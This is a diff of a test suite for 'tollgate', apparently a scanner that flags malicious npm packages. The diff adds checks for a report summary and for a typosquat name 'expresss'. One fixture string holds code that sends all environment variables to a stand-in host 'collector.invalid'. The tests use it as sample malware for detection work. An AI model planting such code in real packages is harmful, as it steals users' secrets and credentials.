@@ -40,7 +40,7 @@ const hostile: FixturePackage = {
     [HOSTILE_FILE]: "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n",
   },
 };
-const PKGS = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), stealer('2.3.1'), stealer('2.3.2'), hostile];
+const PKGS = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), stealer('2.3.1'), stealer('2.3.2'), hostile, clean('expresss', '1.0.0')];
 
 let registry: TestRegistry;
 let tmp: string;
@@ -106,11 +106,12 @@ describe('tollgate check --base main', () => {
     const htmlFile = path.join(tmp, 'check.html');
     const failed = await check('--base', 'main', '--sarif', sarifFile, '--html', htmlFile, '--json');
     expect(failed.code, failed.stderr).toBe(1);
-    const report = JSON.parse(failed.stdout) as { check: { changed: number; scanned: number }; packages: Array<{ name: string; verdict: string; location: { uri: string; line: number } }> };
+    const report = JSON.parse(failed.stdout) as { summary: unknown; check: { changed: number; scanned: number }; packages: Array<{ name: string; verdict: string; location: { uri: string; line: number } }> };
     // Only the new entry is scanned, not base-lib.
     expect(report.check.changed).toBe(1);
     expect(report.check.scanned).toBe(1);
     expect(report.packages.map((p) => `${p.name}:${p.verdict}`)).toEqual(['env-grabber:malicious']);
+    expect(report.summary).toEqual({ total: 1, malicious: 1, suspicious: 0, clean: 0, error: 0 });
 
     const sarif = JSON.parse(fs.readFileSync(sarifFile, 'utf8')) as { version: string; runs: Array<{ results: Array<{ ruleId: string; message: { text: string }; locations: Array<{ physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }> }> }> };
     expect(validateSarif(sarif), JSON.stringify(validateSarif.errors?.slice(0, 5))).toBe(true);
@@ -266,6 +267,12 @@ describe('tollgate check <spec>...', () => {
     const report = JSON.parse(r.stdout) as { check: { mode: string; planned: number }; packages: Array<{ name: string; version: string; verdict: string }> };
     expect(report.check).toMatchObject({ mode: 'specs', planned: 1 });
     expect(report.packages[0]).toMatchObject({ name: 'env-grabber', version: '2.3.2', verdict: 'malicious' });
+    // A look-alike name passes the gate (a name alone is weak evidence) but is never silent.
+    const squat = await runCli(['check', 'expresss@1.0.0', '--project', dir, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--no-color']);
+    expect(squat.code, squat.stderr).toBe(0);
+    expect(squat.stdout).toMatch(/CLEAN\s+\d+\s+expresss@1\.0\.0/);
+    expect(squat.stdout).toMatch(/typosquat\s+name "expresss" imitates "express"/);
+    expect(squat.stdout).toMatch(/PASS/);
     const missing = await runCli(['check', 'no-such-package-xyz@1', '--project', dir, '--registry', registry.url, '--cache', path.join(tmp, 'downloads'), '--quiet', '--json']);
     expect(missing.code).toBe(2);
     expect(JSON.parse(missing.stdout).packages[0].verdict).toBe('error');
